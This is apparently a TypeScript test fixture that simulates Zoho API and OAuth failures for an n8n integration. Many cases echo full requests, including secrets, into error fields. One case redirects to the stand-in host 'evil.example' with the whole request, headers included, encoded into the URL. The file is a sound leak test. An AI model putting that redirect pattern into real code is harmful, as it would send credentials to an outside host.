/** How Zoho, or something between it and n8n, can fail; some of these answers quote the request. */

import type { SimRequest, SimResponse } from '../../sandbox/simulator/types.mts';
import { accountsOrigins, apiOrigins } from './wire.mts';

type Answer = (request: SimRequest) => SimResponse | undefined;

/** What a debugging page, a gateway or a careless error message shows of a request. */
function quoted({ method, url, headers, body }: SimRequest): string {
	const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`);
	return [`${method} ${url.href}`, ...lines, '', body.toString('utf8')].join('\n');
}

function quotedAsJson({ method, url, headers, body }: SimRequest): string {
	return JSON.stringify({ method, url: url.href, headers, body: body.toString('utf8') });
}

/** Wherever Zoho puts words about a failure; what a list holds that comes with status 200 are records. */
function everywhere(words: string, status: number): object {
	const details = {
		api_name: words,
		reason: words,
		param_name: words,
		expected_data_type: words,
		json_path: words,
		permissions: [words],
	};
	const failed = { code: words, message: words, status: 'error', details };
	const lists = status === 200 ? {} : { data: [failed], watch: [failed] };
	return { ...failed, ...lists, error: words, error_info: words, error_description: words };
}

const onApi =
	(answer: (request: SimRequest) => SimResponse): Answer =>
	(request) =>
		apiOrigins.has(request.url.origin) ? answer(request) : undefined;
const onAccounts =
	(answer: (request: SimRequest) => SimResponse): Answer =>
	(request) =>
		accountsOrigins.has(request.url.origin) ? answer(request) : undefined;
/** Reads work, writes do not. */
const onWrites =
	(answer: (request: SimRequest) => SimResponse): Answer =>
	(request) =>
		request.method === 'GET' || request.url.pathname.endsWith('/coql') ? undefined : onApi(answer)(request);
const html = { 'content-type': 'text/html' };

/** Failures of calls, the token being good or Zoho saying that it is not. */
export const failures: Array<[what: string, answer: Answer]> = [
	['nothing fails', () => undefined],
	[
		'401',
		onApi(() => ({
			status: 401,
			json: { code: 'INVALID_TOKEN', message: 'invalid oauth token', status: 'error', details: {} },
		})),
	],
	['429', onApi(() => ({ status: 429, json: { code: 44, message: 'Too many requests' } }))],
	[
		'500',
		onApi(() => ({
			status: 500,
			json: { code: 'INTERNAL_ERROR', message: 'Internal error', status: 'error', details: {} },
		})),
	],
	[
		'502 with a page',
		onApi(() => ({ status: 502, headers: html, text: '<html><h1>Bad Gateway</h1></html>' })),
	],
	[
		'a page instead of an answer',
		onApi(() => ({ status: 200, headers: html, text: '<html><h1>Welcome</h1></html>' })),
	],
	['a cut connection', onApi(() => ({ cut: true }))],
	[
		'a redirection that quotes the request',
		onApi((request) => ({
			status: 302,
			headers: { location: `https://evil.example/?${encodeURIComponent(quoted(request))}` },
			text: '',
		})),
	],
	...[200, 400, 401, 404, 429, 500].flatMap((status): Array<[string, Answer]> => [
		[
			`${status} that quotes the request wherever words can be`,
			onApi((request) => ({ status, json: everywhere(quoted(request), status) })),
		],
		[
			`${status} that quotes the request as JSON`,
			onApi((request) => ({ status, json: everywhere(quotedAsJson(request), status) })),
		],
	]),
	[
		'400 with a message that quotes the request',
		onApi((request) => ({ status: 400, json: { code: 4, message: quoted(request) } })),
	],
	[
		'a page that quotes the request',
		onApi((request) => ({ status: 400, headers: html, text: `<pre>${quoted(request)}</pre>` })),
	],
];

/** Failures of what a registration sends; a create of a record would be looked for. */
export const writeFailures: Array<[what: string, answer: Answer]> = [
	[
		'writes: 500',
		onWrites(() => ({
			status: 500,
			json: { code: 'INTERNAL_ERROR', message: 'Internal error', status: 'error', details: {} },
		})),
	],
	['writes: a cut connection', onWrites(() => ({ cut: true }))],
	[
		'writes: 400 that quotes the request',
		onWrites((request) => ({ status: 400, json: everywhere(quoted(request), 400) })),
	],
	[
		'writes: 400 that quotes the request as JSON',
		onWrites((request) => ({ status: 400, json: everywhere(quotedAsJson(request), 400) })),
	],
];

/** Failures of the accounts server; each request there holds client secret and refresh token. */
export const tokenFailures: Array<[what: string, answer: Answer]> = [
	['nothing fails', () => undefined],
	['an error with status 200', onAccounts(() => ({ status: 200, json: { error: 'invalid_code' } }))],
	['429', onAccounts(() => ({ status: 429, json: { error: 'Access Denied' } }))],
	['500', onAccounts(() => ({ status: 500, text: '' }))],
	['a page', onAccounts(() => ({ status: 502, headers: html, text: '<html><h1>Bad Gateway</h1></html>' }))],
	['a cut connection', onAccounts(() => ({ cut: true }))],
	...[200, 400, 401, 500].flatMap((status): Array<[string, Answer]> => [
		[
			`${status} that quotes the request`,
			onAccounts((request) => ({ status, json: everywhere(quoted(request), status) })),
		],
		[
			`${status} that quotes the request as JSON`,
			onAccounts((request) => ({ status, json: everywhere(quotedAsJson(request), status) })),
		],
		[
			`${status} with a page that quotes the request`,
			onAccounts((request) => ({ status, headers: html, text: `<pre>${quoted(request)}</pre>` })),
		],
	]),
];
